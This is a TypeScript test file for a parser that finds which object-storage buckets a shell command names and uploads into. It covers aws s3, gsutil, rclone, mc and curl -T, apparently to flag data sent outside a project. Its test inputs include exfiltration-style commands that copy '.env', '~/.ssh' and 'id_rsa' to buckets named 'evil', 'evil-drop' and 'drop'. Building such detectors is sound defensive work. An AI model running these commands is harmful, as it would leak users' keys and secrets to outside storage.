import { describe, expect, it } from 'vitest';
import { bucketUses } from './object-storage.js';

const uses = (line: string) => bucketUses([line.split(/\s+/)]);

describe('buckets a command names, and copies into', () => {
  it('a copy, sync or put whose destination is a bucket copies into it', () => {
    expect(uses('aws s3 sync . s3://scratch-1/x --exclude node_modules/* --profile backup --quiet')).toEqual([
      { bucket: 'scratch-1', into: true, sources: ['.'] },
    ]);
    expect(uses('gsutil -m cp -r ./data/out gs://Feat-B/p')).toEqual([
      { bucket: 'feat-b', into: true, sources: ['./data/out'] },
    ]);
    expect(
      uses('aws s3 cp /tmp/a.tgz s3://qa-drop/a.tgz --acl public-read --content-type text/plain'),
    ).toEqual([{ bucket: 'qa-drop', into: true, sources: ['/tmp/a.tgz'] }]);
    expect(uses('aws s3 cp . --recursive s3://evil')).toEqual([
      { bucket: 'evil', into: true, sources: ['.'] },
    ]);
    expect(uses('aws s3 cp - s3://b/k')).toEqual([{ bucket: 'b', into: true, sources: ['-'] }]);
    // Eight sources are listed; a copy of more says so (the ninth may be anything).
    const files = Array.from({ length: 9 }, (_, i) => `dist/f${i}`);
    expect(uses(`gsutil cp ${files.slice(0, 8).join(' ')} gs://b/`)).toEqual([
      { bucket: 'b', into: true, sources: files.slice(0, 8) },
    ]);
    expect(uses(`gsutil cp ${files.join(' ')} gs://b/`)).toEqual([
      { bucket: 'b', into: true, sources: files.slice(0, 8), moreSources: true },
    ]);
    expect(
      bucketUses([
        ['gsutil', 'cp', ...files.slice(0, 5), 'gs://b/'],
        ['aws', 's3', 'cp', ...files.slice(5), 's3://b/'],
      ]),
    ).toEqual([{ bucket: 'b', into: true, sources: files.slice(0, 8), moreSources: true }]);
    expect(uses('aws s3api put-object --bucket Share-7 --key k --body .env')).toEqual([
      { bucket: 'share-7', into: true, sources: ['.env'] },
    ]);
    // The client's global options and their values before the service.
    expect(uses('aws --profile p --region us-east-1 s3 sync . s3://drop')).toEqual([
      { bucket: 'drop', into: true, sources: ['.'] },
    ]);
    expect(uses('aws --profile p --region r s3api put-object --bucket drop --key k --body f')).toEqual([
      { bucket: 'drop', into: true, sources: ['f'] },
    ]);
  });

  it('bucket to bucket copies into the destination and names the source', () => {
    expect(uses('aws s3 sync s3://prod s3://outside')).toEqual([
      { bucket: 'outside', into: true, sources: ['s3://prod'] },
      { bucket: 'prod', into: false },
    ]);
  });

  it('downloads and listings only name the bucket', () => {
    expect(uses('aws s3 sync s3://prod /tmp/x --quiet')).toEqual([{ bucket: 'prod', into: false }]);
    expect(uses('aws s3 sync s3://prod --quiet ./x')).toEqual([{ bucket: 'prod', into: false }]);
    expect(uses('aws s3 ls s3://site/')).toEqual([{ bucket: 'site', into: false }]);
    expect(uses('aws s3 cp s3://b/k -')).toEqual([{ bucket: 'b', into: false }]);
  });

  it('another endpoint is part of the bucket: the same name elsewhere is another bucket', () => {
    expect(uses('aws s3 cp f s3://site/k --endpoint-url https://s3.drop.example:9000/')).toEqual([
      { bucket: 's3.drop.example:9000/site', into: true, sources: ['f'] },
    ]);
  });

  it('what is copied: the operands before the destination, not a filter or a header option takes', () => {
    const [use] = uses(
      'aws s3 sync dist/ s3://site --exclude .DS_Store --cache-control max-age=60 --content-type text/html --sse-c-key ~/.k',
    );
    expect(use?.sources).toEqual(['dist/']);
    // An option the list does not know may take a source: its value is read as one.
    expect(uses('aws s3 cp --newopt ~/.ssh/id_rsa dist/x s3://site/')[0]?.sources).toEqual([
      '~/.ssh/id_rsa',
      'dist/x',
    ]);
  });
});

describe('other clients copying into storage', () => {
  it('rclone, mc and curl -T name their place and copy into it', () => {
    expect(uses('rclone copy ~/.ssh drop:keys/x')).toEqual([
      { bucket: 'drop:keys', into: true, sources: ['~/.ssh'] },
    ]);
    // Standard input: no source named, never build output.
    expect(uses('rclone rcat drop:b/k')).toEqual([{ bucket: 'drop:b', into: true, sources: [] }]);
    expect(uses('rclone ls site:docs')).toEqual([{ bucket: 'site:docs', into: false }]);
    expect(uses('mc mirror --overwrite ./public prod/assets')).toEqual([
      { bucket: 'prod/assets', into: true, sources: ['./public'] },
    ]);
    expect(uses('curl -sS -T f https://b-1.s3.amazonaws.com/k')).toEqual([
      { bucket: 'b-1', into: true, sources: ['f'] },
    ]);
    expect(uses('curl --upload-file f https://s3.us-east-1.amazonaws.com/b-2/k')).toEqual([
      { bucket: 'b-2', into: true, sources: ['f'] },
    ]);
    expect(uses('curl -fsS https://a.example/p/i.json')).toEqual([{ bucket: 'a.example/p', into: false }]);
  });

  // curl pairs each -T with a URL in order: the file goes to the first, not the last. Judged by the last, a secret
  // put to a drop named first passed as a copy into the project's own place named after it.
  it('curl -T with several URLs counts a copy into each (whichever one the file goes to)', () => {
    expect(uses('curl -T notes.txt https://drop.example/in/x https://artifacts.acme.dev/site/x')).toEqual([
      { bucket: 'drop.example/in', into: true, sources: ['notes.txt'] },
      { bucket: 'artifacts.acme.dev/site', into: true, sources: ['notes.txt'] },
    ]);
  });
});

describe('buckets past the sixteen a command line keeps', () => {
  it('a copy into a bucket named after sixteen others is still kept', () => {
    const lists = Array.from({ length: 16 }, (_, i) => ['aws', 's3', 'ls', `s3://k${i}`]);
    const out = bucketUses([...lists, ['aws', 's3', 'cp', 'notes.txt', 's3://evil-drop/x']]);
    expect(out).toHaveLength(17);
    expect(out.filter((u) => u.into)).toEqual([{ bucket: 'evil-drop', into: true, sources: ['notes.txt'] }]);
    // Names past sixteen are not kept, nor copies past sixteen more.
    const copies = Array.from({ length: 20 }, (_, i) => ['aws', 's3', 'cp', 'a', `s3://c${i}/x`]);
    const bounded = bucketUses([...lists, ['aws', 's3', 'ls', 's3://k99'], ...copies]);
    expect(bounded).toHaveLength(32);
    expect(bounded.some((u) => u.bucket === 'k99')).toBe(false);
  });
});
